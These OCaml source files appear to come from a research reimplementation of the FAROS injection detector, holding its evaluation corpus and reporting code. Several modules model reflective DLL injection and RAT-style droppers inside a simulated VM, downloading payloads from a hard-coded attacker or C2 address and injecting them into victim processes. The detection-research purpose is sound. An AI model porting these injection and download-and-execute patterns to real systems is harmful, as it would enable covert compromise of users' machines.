      [
        [ Progs.lbl "start" ];
        resolve "GetTickCount";
        [ Progs.i (Isa.Call_r Isa.r0); Progs.i Isa.Ret ];
        Progs.export_scan_sub ~label:scan;
      ]
  in
  assemble ~origin items

(* -- a true reflective DLL ----------------------------------------------------------- *)

(* The experiments above inject flat shellcode.  This payload is the full
   technique: a bootstrap plus a *sectioned DLL image* travel over the wire;
   the bootstrap (running inside the victim) allocates memory, maps the
   image section by section with its own memcpy, and calls the DLL's entry
   point — "the DLL should be loaded from memory rather than from disk.
   Since Windows does not provide such loading function, a separate loader
   is required."  The DLL entry then does the reflective import resolution
   and pops a message box.

   Wire image format: [entry_rva:u32][nsect:u32] then per section
   [rva:u32][size:u32][data]. *)

let rdll_bootstrap_origin = default_origin

(* The victim's first allocation holds the blob; the bootstrap's own
   allocation for the mapped image therefore lands one region later. *)
let rdll_image_base = default_origin + (2 * Faros_vm.Phys_mem.page_size)

(* The DLL proper: reflective prologue, MessageBoxA, return to the
   bootstrap. *)
let rdll_image ~text () =
  let name = "MessageBoxA" in
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        reflective_prologue;
        [ Progs.lea_label Isa.r1 "str_name"; Progs.movi Isa.r2 (String.length name) ];
        call_slot "slot_gpa";
        [
          Progs.movr Isa.r5 Isa.r0;
          Progs.lea_label Isa.r1 "str_text";
          Progs.movi Isa.r2 (String.length text);
          Progs.i (Isa.Call_r Isa.r5);
          Progs.i Isa.Ret;
        ];
        Progs.export_scan_sub ~label:scan;
        [ Progs.lbl "slot_gpa"; Asm.U32 0 ];
        Progs.cstring "str_name" name;
        Progs.cstring "str_text" text;
      ]
  in
  assemble ~origin:rdll_image_base items

let rdll_blob ~text () =
  Snapshot.blob (Printf.sprintf "payload/rdll_blob/%s" text) @@ fun () ->
  let code = rdll_image ~text () in
  let image =
    Progs.u32_le 0 (* entry rva *)
    ^ Progs.u32_le 1 (* one section *)
    ^ Progs.u32_le 0 (* section rva *)
    ^ Progs.u32_le (String.length code)
    ^ code
  in
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        (* map the image: base = VirtualAlloc(self, page) *)
        [ Progs.movi Isa.r1 0; Progs.movi Isa.r2 Faros_vm.Phys_mem.page_size ];
        Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
        [ Progs.movr Isa.r7 Isa.r0 ];
        [
          Asm.Mov_label (Isa.r6, "image");
          Progs.i (Isa.Load (4, Isa.r5, Isa.based Isa.r6));  (* entry rva *)
          Progs.i (Isa.Push Isa.r5);
          Progs.i (Isa.Load (4, Isa.r4, Isa.based ~disp:4 Isa.r6));  (* nsect *)
          Progs.addi Isa.r6 8;
          Progs.lbl "sect_loop";
          Progs.i (Isa.Cmp_ri (Isa.r4, 0));
          Asm.Jz_l "mapped";
          Progs.i (Isa.Load (4, Isa.r2, Isa.based Isa.r6));  (* rva *)
          Progs.i (Isa.Load (4, Isa.r3, Isa.based ~disp:4 Isa.r6));  (* size *)
          Progs.addi Isa.r6 8;
          Progs.movr Isa.r1 Isa.r7;
          Progs.i (Isa.Add_rr (Isa.r1, Isa.r2));  (* dst = base + rva *)
          Progs.movr Isa.r2 Isa.r6;  (* src = cursor *)
          Progs.i (Isa.Push Isa.r4);
          Asm.Call_l "bmemcpy";
          Progs.i (Isa.Pop Isa.r4);
          Progs.i (Isa.Add_rr (Isa.r6, Isa.r3));
          Progs.i (Isa.Sub_ri (Isa.r4, 1));
          Asm.Jmp_l "sect_loop";
          Progs.lbl "mapped";
          (* call base + entry rva *)
          Progs.i (Isa.Pop Isa.r5);
          Progs.i (Isa.Add_rr (Isa.r5, Isa.r7));
          Progs.i (Isa.Call_r Isa.r5);
          Progs.halt;
        ];
        Progs.memcpy_sub ~label:"bmemcpy";
        [ Asm.Align 4; Progs.lbl "image"; Asm.Bytes image ];
      ]
  in
  assemble ~origin:rdll_bootstrap_origin items
