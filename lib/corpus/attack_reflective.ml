(* Reflective DLL injection — the three Metasploit-module experiments of
   Section VI.

   The client (inject_client.exe) opens a reverse connection to the
   attacker, downloads a length-prefixed payload, and either injects it
   into a victim process (allocate + cross-process write + thread-context
   hijack) or into itself (the reverse_tcp_dns experiment, where "the shell
   code and the target process were the same").  All syscalls are raw —
   invisible to library-level monitors. *)

open Faros_vm

let attacker_ip = "169.254.26.161"
let attacker_port = 4444

(* The first process booted by a scenario. *)
let first_boot_pid = 100

let client_image ~name ~inject =
  Snapshot.image
    (Printf.sprintf "refl_client/%s/%s" name
       (match inject with `Self -> "self" | `Pid p -> Printf.sprintf "pid%d" p))
  @@ fun () ->
  let common_head =
    List.concat
      [
        [ Progs.lbl "start" ];
        Progs.connect_raw ~ip:attacker_ip ~port:attacker_port;
        Progs.prefixed_recv ~sock_reg:Isa.r7 ~len_buf:"lenbuf" ~data_buf:"pbuf"
          ~recv_sub:"recvx";
        [ Progs.movr Isa.r5 Isa.r3 ]  (* payload length *);
      ]
  in
  let inject_steps =
    match inject with
    | `Self ->
      List.concat
        [
          [ Progs.movi Isa.r1 0; Progs.movr Isa.r2 Isa.r5 ];
          Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
          [ Progs.movr Isa.r6 Isa.r0 ];
          [
            Progs.movi Isa.r1 0;
            Progs.movr Isa.r2 Isa.r6;
            Asm.Mov_label (Isa.r3, "pbuf");
            Progs.movr Isa.r4 Isa.r5;
          ];
          Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
          [ Progs.i (Isa.Jmp_r Isa.r6) ];
        ]
    | `Pid target ->
      List.concat
        [
          [ Progs.movi Isa.r1 target; Progs.movr Isa.r2 Isa.r5 ];
          Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
          [ Progs.movr Isa.r6 Isa.r0 ];
          [
            Progs.movi Isa.r1 target;
            Progs.movr Isa.r2 Isa.r6;
            Asm.Mov_label (Isa.r3, "pbuf");
            Progs.movr Isa.r4 Isa.r5;
          ];
          Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
          [ Progs.movi Isa.r1 target ];
          Progs.syscall Faros_os.Syscall.nt_suspend_process;
          [ Progs.movi Isa.r1 target; Progs.movr Isa.r2 Isa.r6 ];
          Progs.syscall Faros_os.Syscall.nt_set_context_thread;
          [ Progs.movi Isa.r1 target ];
          Progs.syscall Faros_os.Syscall.nt_resume_process;
          [ Progs.halt ];
        ]
  in
  Faros_os.Pe.of_program ~name ~base:Faros_os.Process.image_base
    (List.concat
       [
         common_head;
         inject_steps;
         Progs.recv_exact_sub ~label:"recvx";
         [ Asm.Align 4 ];
         Progs.buffer "lenbuf" 4;
         Progs.buffer "pbuf" 4096;
       ])

(* Metasploit-side actor: serves the payload on connect. *)
let attacker_actor ~payload =
  {
    Faros_os.Netstack.actor_name = "metasploit";
    actor_ip = Faros_os.Types.Ip.of_string attacker_ip;
    actor_port = attacker_port;
    on_connect = (fun _flow -> [ Progs.frame payload ]);
    on_data = (fun _flow _data -> []);
  }

(* Experiment 1 (Fig. 7): reflective_dll_inject into notepad.exe. *)
let reflective_dll_inject ?(scrub = false) () =
  let payload = Payloads.popup ~scrub ~text:"injected!" () in
  Scenario.make "reflective_dll_inject"
    ~images:
      [
        ("notepad.exe", Victims.notepad ());
        ( "inject_client.exe",
          client_image ~name:"inject_client.exe" ~inject:(`Pid first_boot_pid) );
      ]
    ~actors:[ attacker_actor ~payload ]
    ~boot:[ "notepad.exe"; "inject_client.exe" ]

(* Experiment 2 (Fig. 8): reverse_tcp_dns — self-injection. *)
let reverse_tcp_dns () =
  let payload = Payloads.popup ~text:"shell ready" () in
  Scenario.make "reverse_tcp_dns"
    ~images:
      [ ("inject_client.exe", client_image ~name:"inject_client.exe" ~inject:`Self) ]
    ~actors:[ attacker_actor ~payload ]
    ~boot:[ "inject_client.exe" ]

(* The full reflective-DLL variant: the wire payload is a bootstrap plus a
   sectioned DLL image; the bootstrap maps it inside notepad.exe with its
   own memcpy and calls the entry point (see {!Payloads.rdll_blob}). *)
let reflective_rdll () =
  let payload = Payloads.rdll_blob ~text:"rdll loaded" () in
  Scenario.make "reflective_rdll"
    ~images:
      [
        ("notepad.exe", Victims.notepad ());
        ( "inject_client.exe",
          client_image ~name:"inject_client.exe" ~inject:(`Pid first_boot_pid) );
      ]
    ~actors:[ attacker_actor ~payload ]
    ~boot:[ "notepad.exe"; "inject_client.exe" ]

(* Experiment 3 (Fig. 9): bypassuac_injection into firefox.exe. *)
let bypassuac_injection () =
  let payload = Payloads.popup ~text:"uac bypassed" () in
  Scenario.make "bypassuac_injection"
    ~images:
      [
        ("firefox.exe", Victims.firefox ());
        ( "inject_client.exe",
          client_image ~name:"inject_client.exe" ~inject:(`Pid first_boot_pid) );
      ]
    ~actors:[ attacker_actor ~payload ]
    ~boot:[ "firefox.exe"; "inject_client.exe" ]
