(** Code/process injection: DarkComet-like and Njrat-like RAT droppers
    (Section VI's "real-world code-injecting malware").

    Unlike the reflective client these call the injection APIs through the
    IAT — CreateProcessA / VirtualAllocEx / WriteProcessMemory are
    perfectly visible to a library-level monitor, and still nothing
    event-based flags the in-memory payload. *)

val c2_ip : string

val injector_image :
  name:string -> c2_port:int -> target_pid:int -> Faros_os.Pe.t
(** The IAT-based dropper: downloads a framed payload through the hooked
    recv API and injects it with VirtualAllocEx / WriteProcessMemory /
    SetThreadContext.  Cached in {!Snapshot}. *)

val c2_actor : port:int -> payload:string -> Faros_os.Netstack.actor

val make : family:string -> c2_port:int -> ?scrub:bool -> unit -> Scenario.t

val darkcomet : ?scrub:bool -> unit -> Scenario.t
(** C2 on DarkComet's default port 1604. *)

val njrat : ?scrub:bool -> unit -> Scenario.t
(** C2 on Njrat's default port 1177. *)
