(** The sample registry: every workload in the evaluation, with its
    expected verdict, so tests and benches iterate one authoritative
    list. *)

type category =
  | Attack of string  (** injection technique *)
  | Rat  (** Table IV non-injecting malware *)
  | Benign_app
  | Jit_applet of bool  (** native-stub applet? *)
  | Jit_ajax

type expected = Expect_flag | Expect_clean

type sample = {
  id : string;
  family : string;
  category : category;
  expected : expected;
  behaviors : Behavior.t list;
  scenario : Scenario.t;
}

val attacks : unit -> sample list
(** The six in-memory-injection samples of Section VI. *)

val transient_attacks : unit -> sample list
(** Variants whose payload unmaps itself before exiting — FAROS still flags
    them; snapshot forensics do not. *)

val evasive_attacks : unit -> sample list
(** The discussion-section taint-laundering evasion; expected verdict is
    policy-dependent, so these stay out of {!all}. *)

val extended_attacks : unit -> sample list
(** Beyond the paper's six: the full reflective-DLL form (sectioned image,
    in-guest mapping). *)

val extras : unit -> sample list
(** Extra benign workloads (DLL loading, loopback IPC); kept out of {!all}
    so the Table IV sample counts stay exactly the paper's. *)

val rats : ?total:int -> unit -> sample list
(** The 90 non-injecting malware builds of Table IV. *)

val benign : ?total:int -> unit -> sample list
(** The 14 benign-software builds of Table IV. *)

val jits : unit -> sample list
(** The 20 JIT workloads of Table III. *)

val netd_showcase : unit -> sample list
(** Server-side daemon samples (lib/netd): benign server under load,
    inject-through-server at 100 and 500 connections, staged C2.  Kept
    out of {!all} so the paper's sample counts stay exact. *)

val netd_sweeps : unit -> sample list
(** Traffic-generator sweep families (client count x arrival pattern x
    payload staging) — the long-job corpus for
    [faros campaign --corpus netd|full]. *)

val sweep1k : ?seeds:int -> unit -> sample list
(** The generated sweep corpus ({!Sweep}): 1,000+ deterministic samples
    over the behaviour matrix at the default seed count.  Kept out of
    {!all} so the core-130 goldens stay the paper's. *)

val perf_workloads : unit -> sample list

val crash_test : unit -> sample
(** A deliberately crashing hidden sample (its boot image is never
    installed): analyzing it raises.  Kept out of {!all}; it pins the
    campaign's crash-isolation property (a raising sample must become an
    [Error] verdict instead of aborting the run). *)

val all : unit -> sample list
(** attacks + rats + benign + jits: the 130-sample evaluation set. *)

val find : string -> sample option
(** Lookup by id across every list, including transient and evasive. *)

val pp_category : category Fmt.t
