(** The generated campaign corpus: a parameter sweep over the Table IV
    behaviour matrix — evasion kind x scrub timing x flow shape x
    payload size x victim x seed — minting 1,000+ samples with
    deterministic ids and contents.  Images and payloads are built
    through {!Snapshot}, so construction cost is O(distinct artifacts),
    not O(samples).  Samples return as plain tuples (like
    {!Rats.samples}); {!Registry.sweep1k} maps them into categories. *)

type kind =
  | Refl  (** reflective injection into a victim — expected flagged *)
  | Self_inject  (** reverse_tcp_dns shape — expected flagged *)
  | Iat  (** IAT-based dropper — expected flagged *)
  | Launder
      (** taint-laundering bit-copy — expected clean under the default
          direct-flow policy (the paper's conceded evasion) *)
  | Drop  (** benign download, never executed — expected clean *)

val default_seeds : int
(** Seed count that puts the full sweep over 1,000 samples. *)

val samples : ?seeds:int -> unit -> (string * kind * Scenario.t) list
(** [(id, kind, scenario)] tuples, deterministic in content and order.
    [seeds] scales the corpus (samples per sweep point). *)
