(* Benign victim processes: the programs injection targets hide inside.

   They busy-loop long enough for an injector to reach them and halt on
   their own if nothing hijacks them.

   Built through the {!Snapshot} cache: every scenario naming the same
   victim shares one immutable [Pe.t] instead of re-assembling it — the
   generated sweep corpus names these thousands of times. *)

open Faros_vm

let worker ~name ~iterations =
  Snapshot.image
    (Printf.sprintf "victim/%s/%d" name iterations)
    (fun () ->
      Faros_os.Pe.of_program ~name ~base:Faros_os.Process.image_base
        (List.concat
           [
             [ Progs.lbl "start" ];
             Progs.idle_loop ~label:"w" ~count:iterations;
             [ Progs.halt ];
           ]))

let notepad () = worker ~name:"notepad.exe" ~iterations:20000
let firefox () = worker ~name:"firefox.exe" ~iterations:20000
let explorer () = worker ~name:"explorer.exe" ~iterations:20000

(* Hollowing target: created suspended, so it normally never runs at all. *)
let svchost () = worker ~name:"svchost.exe" ~iterations:500

(* Spawn-target for the Run behaviour. *)
let calc () =
  Snapshot.image "victim/calc.exe" (fun () ->
      Faros_os.Pe.of_program ~name:"calc.exe" ~base:Faros_os.Process.image_base
        [ Progs.lbl "start"; Progs.movi Isa.r1 42; Progs.halt ])
