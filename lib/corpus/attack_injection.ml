(* Code/process injection: DarkComet-like and Njrat-like RAT droppers
   (Section VI's "real-world code-injecting malware").

   Unlike the reflective client these call the injection APIs through the
   IAT — CreateProcessA / VirtualAllocEx / WriteProcessMemory are perfectly
   visible to a library-level monitor, and still nothing event-based flags
   the in-memory payload (Section VI-B's point: seeing the call is not
   detecting the attack). *)

open Faros_vm

let c2_ip = "169.254.26.161"

let injector_image ~name ~c2_port ~target_pid =
  Snapshot.image (Printf.sprintf "iat_injector/%s/%d/%d" name c2_port target_pid)
  @@ fun () ->
  let imports =
    [
      "socket";
      "connect";
      "recv";
      "VirtualAllocEx";
      "WriteProcessMemory";
      "SuspendThread";
      "SetThreadContext";
      "ResumeThread";
    ]
  in
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        Progs.connect_api ~ip:c2_ip ~port:c2_port;
        (* recv the length-prefixed payload through the hooked recv API *)
        [ Progs.movr Isa.r1 Isa.r7; Progs.lea_label Isa.r2 "lenbuf"; Progs.movi Isa.r3 4 ];
        Progs.call_api "recv";
        [ Progs.lea_label Isa.r5 "lenbuf"; Progs.i (Isa.Load (4, Isa.r5, Isa.based Isa.r5)) ];
        [ Progs.movr Isa.r1 Isa.r7; Progs.lea_label Isa.r2 "pbuf"; Progs.movr Isa.r3 Isa.r5 ];
        Progs.call_api "recv";
        (* VirtualAllocEx(target, len) *)
        [ Progs.movi Isa.r1 target_pid; Progs.movr Isa.r2 Isa.r5 ];
        Progs.call_api "VirtualAllocEx";
        [ Progs.i (Isa.Push Isa.r0) ];
        (* WriteProcessMemory(target, base, pbuf, len) *)
        [
          Progs.movi Isa.r1 target_pid;
          Progs.movr Isa.r2 Isa.r0;
          Asm.Mov_label (Isa.r3, "pbuf");
          Progs.movr Isa.r4 Isa.r5;
        ];
        Progs.call_api "WriteProcessMemory";
        [ Progs.movi Isa.r1 target_pid ];
        Progs.call_api "SuspendThread";
        [ Progs.movi Isa.r1 target_pid; Progs.i (Isa.Pop Isa.r2) ];
        Progs.call_api "SetThreadContext";
        [ Progs.movi Isa.r1 target_pid ];
        Progs.call_api "ResumeThread";
        [ Progs.halt ];
        [ Asm.Align 4 ];
        Progs.buffer "lenbuf" 4;
        Progs.buffer "pbuf" 4096;
      ]
  in
  Faros_os.Pe.of_program ~name ~base:Faros_os.Process.image_base ~imports items

let c2_actor ~port ~payload =
  {
    Faros_os.Netstack.actor_name = "c2";
    actor_ip = Faros_os.Types.Ip.of_string c2_ip;
    actor_port = port;
    on_connect = (fun _flow -> [ Progs.frame payload ]);
    on_data = (fun _flow _data -> []);
  }

let make ~family ~c2_port ?(scrub = false) () =
  let payload = Payloads.popup ~scrub ~text:(family ^ " owns you") () in
  let name = family ^ "_inject.exe" in
  Scenario.make (family ^ "_injection")
    ~images:
      [
        ("explorer.exe", Victims.explorer ());
        ( name,
          injector_image ~name ~c2_port
            ~target_pid:Attack_reflective.first_boot_pid );
      ]
    ~actors:[ c2_actor ~port:c2_port ~payload ]
    ~boot:[ "explorer.exe"; name ]

(* DarkComet's default port is 1604; Njrat's is 1177. *)
let darkcomet ?scrub () = make ~family:"darkcomet" ~c2_port:1604 ?scrub ()
let njrat ?scrub () = make ~family:"njrat" ~c2_port:1177 ?scrub ()
