(* The generated campaign corpus: a parameter sweep over the Table IV
   behaviour matrix.

   The paper's evaluation is a fixed 130-sample set; production triage
   traffic is not.  This module mints thousands of registered samples by
   sweeping the dimensions that actually vary in the wild —

     evasion kind   : reflective / self-inject / IAT dropper /
                      taint-laundering / benign download
     scrub timing   : payload persists vs unmaps itself after running
     flow shape     : the framed payload arrives as one wire chunk or
                      split across several (each chunk is a separately
                      recorded netflow delivery)
     payload size   : the pop-up text padded to 16 / 64 / 256 bytes
     victim         : notepad / firefox / explorer
     seed           : varies the payload bytes, so provenance is per-sample

   — with fully deterministic ids ([swp_<kind>_<dims>_sNN]) and scenario
   contents: the same seed always produces the same bytes, so serial and
   [-j N] campaigns over the sweep stay byte-identical.

   Every image and payload is built through {!Snapshot}: a thousand
   samples share three victim images, a handful of client images and one
   payload blob per (size, seed, scrub) point, so corpus construction is
   O(distinct artifacts), not O(samples).

   Job lengths are deliberately uneven — laundering samples replay a
   bit-by-bit copy loop and victims idle for tens of thousands of ticks
   while self-inject samples finish in hundreds — which is exactly the
   long-tail shape the pool's work stealing exists for.

   Samples return as plain tuples (like {!Rats.samples}) so {!Registry}
   can map them into categories without a dependency cycle. *)

open Faros_vm

type kind = Refl | Self_inject | Iat | Launder | Drop

(* -- deterministic payload bytes ------------------------------------------ *)

(* Pad a per-seed tag to [size] bytes with a seed-shifted alphabet: every
   (size, seed) point yields distinct, reproducible payload text. *)
let text ~size ~seed =
  let tag = Printf.sprintf "swp%02d!" seed in
  String.init size (fun i ->
      if i < String.length tag then tag.[i]
      else Char.chr (Char.code 'a' + ((i + seed) mod 26)))

(* -- flow shape ----------------------------------------------------------- *)

(* Split the framed payload into [chunks] wire deliveries.  The guest's
   recv loop reassembles them; the trace records each chunk as its own
   inbound delivery, so the flow SHAPE changes while the flow BYTES stay
   identical. *)
let chunked ~chunks payload =
  let framed = Progs.frame payload in
  let n = String.length framed in
  let per = max 1 ((n + chunks - 1) / chunks) in
  let rec go i acc =
    if i >= n then List.rev acc
    else
      let len = min per (n - i) in
      go (i + len) (String.sub framed i len :: acc)
  in
  go 0 []

let actor ~ip ~port ~chunks ~payload =
  {
    Faros_os.Netstack.actor_name = "sweepnet";
    actor_ip = Faros_os.Types.Ip.of_string ip;
    actor_port = port;
    on_connect = (fun _flow -> chunked ~chunks payload);
    on_data = (fun _flow _data -> []);
  }

(* -- the benign end of the matrix ----------------------------------------- *)

(* A downloader that receives the same framed payload and simply halts:
   tainted bytes sit in its buffer, nothing ever executes them.  The
   clean control the sweep needs so the campaign's mismatch logic is
   exercised in both directions at scale. *)
let drop_client () =
  Snapshot.image "sweep_drop_client" @@ fun () ->
  Faros_os.Pe.of_program ~name:"drop_client.exe"
    ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         Progs.connect_raw ~ip:Attack_reflective.attacker_ip
           ~port:Attack_reflective.attacker_port;
         Progs.prefixed_recv ~sock_reg:Isa.r7 ~len_buf:"lenbuf"
           ~data_buf:"pbuf" ~recv_sub:"recvx";
         [ Progs.halt ];
         Progs.recv_exact_sub ~label:"recvx";
         [ Asm.Align 4 ];
         Progs.buffer "lenbuf" 4;
         Progs.buffer "pbuf" 4096;
       ])

(* -- scenario builders per kind ------------------------------------------- *)

let refl_ip = Attack_reflective.attacker_ip
let refl_port = Attack_reflective.attacker_port

let refl ~id ~victim_exe ~victim ~scrub ~chunks ~size ~seed =
  let payload = Payloads.popup ~scrub ~text:(text ~size ~seed) () in
  Scenario.make id
    ~images:
      [
        (victim_exe, victim);
        ( "inject_client.exe",
          Attack_reflective.client_image ~name:"inject_client.exe"
            ~inject:(`Pid Attack_reflective.first_boot_pid) );
      ]
    ~actors:[ actor ~ip:refl_ip ~port:refl_port ~chunks ~payload ]
    ~boot:[ victim_exe; "inject_client.exe" ]

let self_inject ~id ~scrub ~chunks ~size ~seed =
  let payload = Payloads.popup ~scrub ~text:(text ~size ~seed) () in
  Scenario.make id
    ~images:
      [
        ( "inject_client.exe",
          Attack_reflective.client_image ~name:"inject_client.exe"
            ~inject:`Self );
      ]
    ~actors:[ actor ~ip:refl_ip ~port:refl_port ~chunks ~payload ]
    ~boot:[ "inject_client.exe" ]

(* IAT droppers read the wire through the hooked recv API with explicit
   lengths, so they always take the whole frame in one delivery: the
   chunk dimension stays fixed at 1 for this kind. *)
let iat ~id ~port ~scrub ~size ~seed =
  let payload = Payloads.popup ~scrub ~text:(text ~size ~seed) () in
  let name = "sweep_inject.exe" in
  Scenario.make id
    ~images:
      [
        ("explorer.exe", Victims.explorer ());
        ( name,
          Attack_injection.injector_image ~name ~c2_port:port
            ~target_pid:Attack_reflective.first_boot_pid );
      ]
    ~actors:[ Attack_injection.c2_actor ~port ~payload ]
    ~boot:[ "explorer.exe"; name ]

let launder ~id ~chunks ~seed =
  (* Laundering replays a bit-by-bit copy of the whole payload, so only
     the small payload size rides this kind; the 2M-tick budget matches
     the hand-written evasive sample. *)
  let payload = Payloads.popup ~text:(text ~size:16 ~seed) () in
  Scenario.make id
    ~images:
      [
        ("notepad.exe", Victims.notepad ());
        ( "evasive_client.exe",
          Attack_evasive.client_image
            ~target_pid:Attack_reflective.first_boot_pid );
      ]
    ~actors:
      [
        actor ~ip:Attack_evasive.attacker_ip ~port:Attack_evasive.attacker_port
          ~chunks ~payload;
      ]
    ~max_ticks:2_000_000
    ~boot:[ "notepad.exe"; "evasive_client.exe" ]

let drop ~id ~chunks ~size ~seed =
  let payload = Payloads.popup ~text:(text ~size ~seed) () in
  Scenario.make id
    ~images:[ ("drop_client.exe", drop_client ()) ]
    ~actors:[ actor ~ip:refl_ip ~port:refl_port ~chunks ~payload ]
    ~boot:[ "drop_client.exe" ]

(* -- the sweep ------------------------------------------------------------ *)

let victims = [ ("notepad", "notepad.exe", Victims.notepad);
                ("firefox", "firefox.exe", Victims.firefox);
                ("explorer", "explorer.exe", Victims.explorer) ]

let scrubs = [ (false, "keep"); (true, "scrub") ]
let chunk_counts = [ 1; 2; 4 ]
let sizes = [ 16; 64; 256 ]
let iat_ports = [ 1604; 1177; 8443 ]

(* Default seed count: sized so the full sweep crosses 1,000 samples
   (3*2*3*3*s refl + 2*3*3*s self + 3*2*3*s iat + 3*3*s drop + 4
   launder = 1093 at s = 11). *)
let default_seeds = 11

let samples ?(seeds = default_seeds) () =
  let seed_list = List.init seeds Fun.id in
  let refl_samples =
    List.concat_map
      (fun (vname, victim_exe, victim) ->
        List.concat_map
          (fun (scrub, sname) ->
            List.concat_map
              (fun chunks ->
                List.concat_map
                  (fun size ->
                    List.map
                      (fun seed ->
                        let id =
                          Printf.sprintf "swp_refl_%s_%s_c%d_b%03d_s%02d"
                            vname sname chunks size seed
                        in
                        (id, Refl,
                         refl ~id ~victim_exe ~victim:(victim ()) ~scrub
                           ~chunks ~size ~seed))
                      seed_list)
                  sizes)
              chunk_counts)
          scrubs)
      victims
  in
  let self_samples =
    List.concat_map
      (fun (scrub, sname) ->
        List.concat_map
          (fun chunks ->
            List.concat_map
              (fun size ->
                List.map
                  (fun seed ->
                    let id =
                      Printf.sprintf "swp_self_%s_c%d_b%03d_s%02d" sname
                        chunks size seed
                    in
                    (id, Self_inject, self_inject ~id ~scrub ~chunks ~size ~seed))
                  seed_list)
              sizes)
          chunk_counts)
      scrubs
  in
  let iat_samples =
    List.concat_map
      (fun port ->
        List.concat_map
          (fun (scrub, sname) ->
            List.concat_map
              (fun size ->
                List.map
                  (fun seed ->
                    let id =
                      Printf.sprintf "swp_iat_p%d_%s_b%03d_s%02d" port sname
                        size seed
                    in
                    (id, Iat, iat ~id ~port ~scrub ~size ~seed))
                  seed_list)
              sizes)
          scrubs)
      iat_ports
  in
  let drop_samples =
    List.concat_map
      (fun chunks ->
        List.concat_map
          (fun size ->
            List.map
              (fun seed ->
                let id =
                  Printf.sprintf "swp_drop_c%d_b%03d_s%02d" chunks size seed
                in
                (id, Drop, drop ~id ~chunks ~size ~seed))
              seed_list)
          sizes)
      chunk_counts
  in
  let launder_samples =
    List.concat_map
      (fun chunks ->
        List.map
          (fun seed ->
            let id = Printf.sprintf "swp_launder_c%d_s%02d" chunks seed in
            (id, Launder, launder ~id ~chunks ~seed))
          [ 0; 1 ])
      [ 1; 2 ]
  in
  refl_samples @ self_samples @ iat_samples @ drop_samples @ launder_samples
