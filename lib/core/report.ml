(* Analysis reports: flagged instructions with full provenance, rendered in
   the format of Table II. *)

type flag = {
  f_tick : int;  (* global instruction count at flag time *)
  f_pc : int;  (* address of the flagged load (Table II's memory address) *)
  f_asid : int;  (* CR3 of the flagged process, for pid resolution *)
  f_process : string;  (* process executing the injected code *)
  f_instr : Faros_vm.Isa.t;
  f_instr_prov : Faros_dift.Provenance.t;
  f_read_vaddr : int;  (* export-table address the load read *)
  f_read_prov : Faros_dift.Provenance.t;
  f_whitelisted : bool;
}

type t = {
  mutable flags : flag list;  (* newest first *)
  mutable suppressed : int;  (* whitelisted flag count *)
}

let create () = { flags = []; suppressed = 0 }

let add t flag =
  t.flags <- flag :: t.flags;
  if flag.f_whitelisted then t.suppressed <- t.suppressed + 1

let flags t = List.rev t.flags

let effective_flags t = List.filter (fun f -> not f.f_whitelisted) (flags t)

let flagged t = effective_flags t <> []

(* Distinct (process, pc) pairs — one line per injected instruction. *)
let flagged_sites t =
  List.fold_left
    (fun acc f ->
      let key = (f.f_process, f.f_pc) in
      if List.mem_assoc key acc then acc else (key, f) :: acc)
    []
    (effective_flags t)
  |> List.rev_map snd

(* -- rendering -- *)

(* Human description of one tag, resolved against the tag store. *)
let describe_tag ~(store : Faros_dift.Tag_store.t) ~name_of_asid tag =
  match (tag : Faros_dift.Tag.t) with
  | Netflow i -> (
    match Faros_dift.Tag_store.netflow_of store i with
    | Some flow -> Fmt.str "NetFlow: %a" Faros_os.Types.pp_flow flow
    | None -> Fmt.str "NetFlow: #%d" i)
  | Process i -> (
    match Faros_dift.Tag_store.cr3_of store i with
    | Some asid -> Fmt.str "Process: %s" (name_of_asid asid)
    | None -> Fmt.str "Process: #%d" i)
  | File i -> (
    match Faros_dift.Tag_store.file_of store i with
    | Some f ->
      Fmt.str "File: %s (v%d)" f.Faros_dift.Tag_store.file_name
        f.Faros_dift.Tag_store.file_version
    | None -> Fmt.str "File: #%d" i)
  | Export_table i -> (
    match Faros_dift.Tag_store.export_of store i with
    | Some name -> Fmt.str "Export-table: %s" name
    | None -> "Export-table")

(* Provenance rendered oldest-first with " -> " separators, as Table II
   prints it (origin first: NetFlow -> inject_client.exe -> notepad.exe). *)
let render_provenance ~store ~name_of_asid prov =
  List.rev (Faros_dift.Provenance.to_list prov)
  |> List.map (describe_tag ~store ~name_of_asid)
  |> String.concat " -> "

let pp_flag ~store ~name_of_asid ppf flag =
  Fmt.pf ppf "0x%08X  %s;" flag.f_pc
    (render_provenance ~store ~name_of_asid flag.f_instr_prov)

(* The Table II layout: memory address column and provenance column. *)
let pp_table ~store ~name_of_asid ppf t =
  Fmt.pf ppf "%-14s %s@." "Memory Address" "Provenance List";
  List.iter
    (fun flag -> Fmt.pf ppf "%a@." (pp_flag ~store ~name_of_asid) flag)
    (flagged_sites t)

(* -- machine-readable export -- *)

let json_escape = Faros_obs.Json.escape

(* A self-contained JSON document an analyst can archive with the sample:
   one object per flag with resolved provenance strings. *)
let to_json ~store ~name_of_asid t =
  let flag_json (f : flag) =
    Printf.sprintf
      {|{"tick":%d,"pc":"0x%08X","process":"%s","instruction":"%s","instr_provenance":"%s","read_vaddr":"0x%08X","read_provenance":"%s","whitelisted":%b}|}
      f.f_tick f.f_pc (json_escape f.f_process)
      (json_escape (Faros_vm.Disasm.to_string f.f_instr))
      (json_escape (render_provenance ~store ~name_of_asid f.f_instr_prov))
      f.f_read_vaddr
      (json_escape (render_provenance ~store ~name_of_asid f.f_read_prov))
      f.f_whitelisted
  in
  Printf.sprintf {|{"flagged":%b,"suppressed":%d,"flags":[%s]}|} (flagged t)
    t.suppressed
    (String.concat "," (List.map flag_json (flags t)))

let summary t =
  Fmt.str "%d flagged load(s) at %d site(s), %d whitelisted"
    (List.length (effective_flags t))
    (List.length (flagged_sites t))
    t.suppressed
