(** Top-level analysis driver: the analyst workflow of Section V-C.

    1. Record: run the sample live (actors answering on the network, the
       user workload typing) and capture the non-deterministic inputs.
    2. Replay under FAROS: rebuild the system, feed the trace, run the DIFT
       plugin, and report any in-memory injections with full provenance. *)

type outcome = {
  faros : Faros_plugin.t;
  report : Report.t;
  trace : Faros_replay.Trace.t;
  record_ticks : int;
